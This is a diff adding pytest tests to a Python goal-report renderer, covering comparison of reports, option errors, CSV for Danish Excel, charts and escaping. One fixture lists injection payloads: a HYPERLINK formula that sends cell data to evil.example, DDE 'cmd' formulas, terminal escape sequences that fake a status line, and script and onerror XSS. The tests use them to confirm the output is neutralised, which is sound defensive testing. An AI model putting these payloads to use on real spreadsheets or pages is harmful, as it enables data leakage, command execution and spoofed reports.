@@ -20,12 +20,15 @@ import subprocess
 import tempfile
 from html.parser import HTMLParser
 from pathlib import Path
+from typing import Any
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 import goalcheck
+import goalcheck.output
+import goalcheck.report
 from goalcheck import strategies as gs
 from goalcheck.engine import evaluate
 from goalcheck.errors import GoalcheckError
@@ -299,3 +302,361 @@ def test_html_renders_in_a_headless_browser(plan: Plan, report: Report, tmp_path
     assert "<svg" in dom
     assert dom.count('class="target ') == len(report)
     assert "Overblik" in dom
+
+
+# -- options and errors -----------------------------------------------------------------------
+
+
+def test_bad_options_are_option_errors(report: Report) -> None:
+    from goalcheck.errors import OptionError
+
+    with pytest.raises(OptionError, match="did you mean 'html'"):
+        render(report, "htm")
+    with pytest.raises(OptionError, match="'en' or 'da'"):
+        render(report, "table", "de")
+    with pytest.raises(OptionError, match="'en' or 'da'"):
+        report.records("fr")
+    with pytest.raises(OptionError, match="did you mean 'at_risk'"):
+        report.filter("at_rsk")
+    with pytest.raises(OptionError, match="binary"):
+        render(report, "xlsx")
+    with pytest.raises(OptionError, match="decimal"):
+        render(report, "csv", decimal=";")
+    with pytest.raises(OptionError, match="differ"):
+        render(report, "csv", decimal=",", delimiter=",")
+
+
+def test_explain_evaluates_only_its_target(plan: Plan, monkeypatch: pytest.MonkeyPatch) -> None:
+    import goalcheck.engine
+
+    def whole_plan(*args: object, **kw: object) -> None:
+        raise AssertionError("explain evaluated the whole plan")
+
+    monkeypatch.setattr(goalcheck.engine, "evaluate", whole_plan)
+    assert "1.1" in explain(plan, "1.1", AS_OF)
+
+
+def test_the_view_computes_only_the_facts_it_shows(
+    plan: Plan, report: Report, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import goalcheck.facts
+    from goalcheck._export._view import SHOWN_FACTS, build_view
+
+    asked: list[frozenset[str]] = []
+    real = goalcheck.facts.compute_facts
+
+    def spy(*args: object, names: object = None, **kw: object) -> dict[str, object]:
+        assert names is not None, "every fact recomputed"
+        asked.append(frozenset(names))  # type: ignore[arg-type]
+        return real(*args, names=names, **kw)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(goalcheck.facts, "compute_facts", spy)
+    build_view(report, "en", plan)
+    assert asked
+    assert all(names <= SHOWN_FACTS for names in asked)
+
+
+# -- change since an earlier report -----------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def compared(plan: Plan, report: Report) -> Report:
+    return goalcheck.output.compare(report, evaluate(plan, dt.date(2010, 3, 31)))
+
+
+def test_compare_marks_each_target(plan: Plan, report: Report, compared: Report) -> None:
+    earlier = evaluate(plan, dt.date(2010, 3, 31))
+    assert compared.comparison is not None
+    for result in compared:
+        change = compared.change(result.target_id)
+        assert change is not None
+        before = earlier[result.target_id].status
+        assert change.earlier_status == before
+        sev = {s.id: s.severity for s in report.rules.statuses}
+        expected = (
+            "unchanged"
+            if before == result.status
+            else "worsened"
+            if sev[result.status] > sev[before]
+            else "improved"
+        )
+        assert change.change == expected
+    assert report.comparison is None  # compare() returns a new report
+
+
+def test_compare_with_a_json_report_file(
+    plan: Plan, report: Report, compared: Report, tmp_path: Path
+) -> None:
+    earlier = tmp_path / "last.json"
+    earlier.write_text(render(evaluate(plan, dt.date(2010, 3, 31)), "json"), encoding="utf-8")
+    from_file = goalcheck.output.compare(report, earlier)
+    assert from_file.to_dict() == compared.to_dict()
+    via_cli_helper = goalcheck.output.compare_to(report, str(earlier), plan)
+    assert via_cli_helper.to_dict() == compared.to_dict()
+    by_date = goalcheck.output.compare_to(report, "2010-03-31", plan)
+    assert by_date.to_dict() == compared.to_dict()
+
+
+def test_compare_refuses_what_is_not_a_report(report: Report, tmp_path: Path) -> None:
+    from goalcheck.errors import InputError, OptionError
+
+    bad = tmp_path / "x.json"
+    bad.write_text('{"schema_version": 1, "results": [{"id": 3}]}', encoding="utf-8")
+    with pytest.raises(InputError, match=r"x\.json:results\[0\]"):
+        goalcheck.output.compare(report, bad)
+    bad.write_text("{", encoding="utf-8")
+    with pytest.raises(InputError, match="not a JSON report"):
+        goalcheck.output.compare(report, bad)
+    with pytest.raises(OptionError, match="no such report file"):
+        goalcheck.output.compare_to(report, str(tmp_path / "missing.json"))
+
+
+def test_new_and_removed_targets(report: Report) -> None:
+    earlier = report.to_dict()
+    results = earlier["results"]
+    assert isinstance(results, list)
+    earlier["results"] = [*results[1:], {"id": "gone", "status": "met"}]
+    out = goalcheck.output.compare(report, earlier)
+    assert out.comparison is not None
+    assert out.change(report.results[0].target_id).change == "new"  # type: ignore[union-attr]
+    assert out.comparison.removed == ("gone",)
+    assert out.to_dict()["compared_to"]["removed"] == ["gone"]  # type: ignore[index]
+
+
+def test_compared_json_is_additive(report: Report, compared: Report) -> None:
+    plain, data = report.to_dict(), compared.to_dict()
+    assert list(data)[: len(plain)] == list(plain)
+    assert set(data) - set(plain) == {"compared_to", "changes"}
+    assert data["compared_to"]["as_of"] == "2010-03-31"  # type: ignore[index]
+    for before, after in zip(plain["results"], data["results"], strict=True):  # type: ignore[call-overload]
+        assert {k: after[k] for k in before} == before
+        assert set(after) - set(before) == {"earlier_status", "change"}
+    counts = data["changes"]
+    assert isinstance(counts, dict)
+    assert sum(counts.values()) == len(report)
+
+
+@pytest.mark.parametrize("lang", ["en", "da"])
+def test_the_change_shows_in_every_format(plan: Plan, compared: Report, lang: str) -> None:
+    word = {"en": "worsened", "da": "forværret"}[lang]
+    line = re.compile(r"(Since|Siden) 2010-03-31: \d+ (targets?|mål) " + word)
+    table = render(compared, "table", lang, plan=plan)
+    assert line.search(table)
+    assert label_of("earlier", lang) in table
+    md = render(compared, "markdown", lang, plan=plan)
+    assert line.search(md)
+    html = render(compared, "html", lang, plan=plan)
+    assert line.search(html)
+    assert 'class="change change-' in html
+    rows = list(csv.DictReader(io.StringIO(render(compared, "csv", lang, plan=plan))))
+    assert {"earlier_status", "change"} <= set(rows[0])
+    assert {row["change"] for row in rows} <= set(goalcheck.report.CHANGES)
+    data = json.loads(render(compared, "json", lang))
+    assert all("change" in r for r in data["results"])
+
+
+def label_of(key: str, lang: str) -> str:
+    from goalcheck._export._labels import label
+
+    return label(key, lang)
+
+
+# -- escaping, one policy per format (issue 18 F5-F7) -----------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "\tTAB",
+    "first\rsecond",
+    "'=already quoted",
+    "Jobs \x1b[1A\x1b[2K\x1b[32mALL TARGETS MET\x1b[0m",
+    "a\\|b <script>alert(2)</script> `code` *em* [link](x)",
+    "-10",
+]
+
+
+@pytest.fixture(scope="module")
+def hostile() -> tuple[Plan, Report]:
+    from goalcheck.model import Measurement, Target
+
+    targets = [
+        Target(
+            id=f"T{i}",
+            title=title,
+            direction="at_least",
+            target=10,
+            deadline=dt.date(2010, 12, 31),
+            measurements=[Measurement(dt.date(2010, 3, 31), -10.0)],
+        )
+        for i, title in enumerate(HOSTILE)
+    ]
+    plan = Plan(id="p", title="<img src=x onerror=alert(1)>", targets=targets)
+    return plan, evaluate(plan, AS_OF)
+
+
+@pytest.mark.parametrize("options", [{}, {"decimal": ",", "delimiter": ";"}])
+def test_csv_neutralises_formulas_and_reads_back(
+    hostile: tuple[Plan, Report], options: dict[str, str]
+) -> None:
+    from goalcheck._export.csv import restore_cell
+
+    plan, report = hostile
+    text = render(report, "csv", plan=plan, **options)
+    rows = list(
+        csv.DictReader(io.StringIO(text, newline=""), delimiter=options.get("delimiter", ","))
+    )
+    assert len(rows) == len(HOSTILE)  # a bare CR splits no row
+    for row, title in zip(rows, HOSTILE, strict=True):
+        cell = row["title"]
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+        assert not (cell.startswith("-") and cell != "-10"), cell
+        assert restore_cell(cell) == title.replace("\r", "\n")
+        assert row["value"] in ("-10", "-10,0", "-10.0") or row["value"].startswith("-10")
+        assert not row["value"].startswith("'")  # a number stays a number
+
+
+def test_csv_for_danish_excel(plan: Plan, report: Report) -> None:
+    text = render(report, "csv", "da", plan=plan, decimal=",", delimiter=";", bom=True)
+    assert text.startswith("\ufeffid;title;")
+    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
+    by_id = {row["id"]: row for row in rows}
+    assert by_id["1.1"]["progress"] == "0,44"
+    assert render_bytes(report, "csv", "da", plan=plan, bom=True).startswith(b"\xef\xbb\xbf")
+
+
+def test_terminal_output_shows_control_characters(hostile: tuple[Plan, Report]) -> None:
+    plan, report = hostile
+    for width in (80, 140):
+        table = render(report, "table", plan=plan, width=width)
+        assert "\x1b" not in table
+        assert "\r" not in table
+        assert "\\x1b[1A" in table
+    text = explain(plan, "T7", AS_OF)
+    assert "\x1b" not in text
+    assert "\\x1b[2K" in text
+
+
+def test_markdown_escapes_html_and_table_syntax(hostile: tuple[Plan, Report]) -> None:
+    plan, report = hostile
+    md = render(report, "markdown", plan=plan)
+    assert "<script>" not in md
+    assert "<img" not in md
+    assert "&lt;script&gt;" in md
+    for line in md.splitlines():
+        if line.startswith("| T8 "):
+            cells = re.split(r"(?<!\\)\|", line)
+            assert len(cells) == 8, line  # 6 columns: no cell split by the title's pipe
+    from goalcheck._export.markdown import escape_markdown
+
+    assert escape_markdown("a\\|b") == "a\\\\\\|b"
+
+
+def test_html_escapes_everything(hostile: tuple[Plan, Report]) -> None:
+    plan, report = hostile
+    html = render(report, "html", plan=plan)
+    assert "<script>alert" not in html
+    assert "<img src=x" not in html
+
+
+# -- HTML -------------------------------------------------------------------------------------
+
+
+def test_html_overview_footer_and_sorting(plan: Plan, report: Report) -> None:
+    html = render(report, "html", "en", plan=plan)
+    overview = html.index('<section class="overview">')
+    assert overview < html.index('<article class="target')
+    assert html.count('<tr class="row">') == len(report)
+    assert html.count('<svg class="spark"') >= 3
+    assert html.count('data-type="num"') >= 3
+    footer = re.search(r"<footer>(.*?)</footer>", html)
+    assert footer is not None
+    assert goalcheck.__version__ in footer.group(1)
+    assert "default 1.0" in footer.group(1)
+    assert "2010-06-30" in footer.group(1)
+    assert "@media (max-width: 640px)" in html
+    assert "@media print" in html
+
+
+def test_chart_axis_includes_zero_or_the_baseline(plan: Plan, report: Report) -> None:
+    from goalcheck._export._view import build_view
+    from goalcheck._export.chart import _scale, _series
+
+    view = build_view(report, "en", plan)
+    for row in view.rows:
+        series = _series(row, view.as_of)
+        if series is None or not series.actuals:
+            continue
+        s = _scale(series)
+        assert s is not None
+        anchor = series.baseline[1] if series.baseline is not None else 0.0
+        assert s.y0 <= anchor <= s.y1, (row.id, s, anchor)
+
+
+@pytest.mark.parametrize("value", [1e17, 2.0**53, 0.0, -5.0, 1e-300, 1e308])
+def test_a_flat_chart_never_divides_by_zero(value: float) -> None:
+    """F9: every plotted value the same number, however large."""
+    from goalcheck.model import Measurement, Target
+
+    target = Target(
+        id="T",
+        direction="at_least",
+        target=value,
+        deadline=dt.date(2010, 12, 31),
+        measurements=[Measurement(dt.date(2009, 6, 30), value)],
+    )
+    plan = Plan(id="p", targets=[target])
+    html = render(evaluate(plan, dt.date(2009, 9, 30)), "html", plan=plan)
+    assert "nan" not in html.lower().replace("nans", "")
+
+
+# -- grouping is linear (F10) -----------------------------------------------------------------
+
+
+def _many_initiatives(n: int) -> tuple[Plan, Report]:
+    from goalcheck.model import Area, Initiative, Target
+
+    areas = [Area(f"A{i}", f"Area {i}") for i in range(n)]
+    initiatives = [
+        Initiative(
+            f"I{i}",
+            f"Initiative {i}",
+            area=f"A{i}",
+            targets=[Target(id=f"T{i}", direction="at_least", target=10)],
+        )
+        for i in range(n)
+    ]
+    plan = Plan(id="p", areas=areas, initiatives=initiatives)
+    return plan, evaluate(plan, AS_OF)
+
+
+def test_grouping_is_linear() -> None:
+    """10x the initiatives cost at most ~10x the lines run in _view (it was quadratic)."""
+    import sys
+
+    from goalcheck._export import _view
+
+    def lines_run(n: int) -> int:
+        plan, report = _many_initiatives(n)
+        count = 0
+
+        def tracer(frame: Any, event: str, arg: object) -> Any:
+            nonlocal count
+            if frame.f_code.co_filename != _view.__file__:
+                return None
+            if event == "line":
+                count += 1
+            return tracer
+
+        sys.settrace(tracer)
+        try:
+            view = _view.build_view(report, "en", plan)
+        finally:
+            sys.settrace(None)
+        assert len(view.groups) == n
+        return count
+
+    small, large = lines_run(100), lines_run(1_000)
+    assert small > 0
+    assert large <= 11 * small, (small, large)
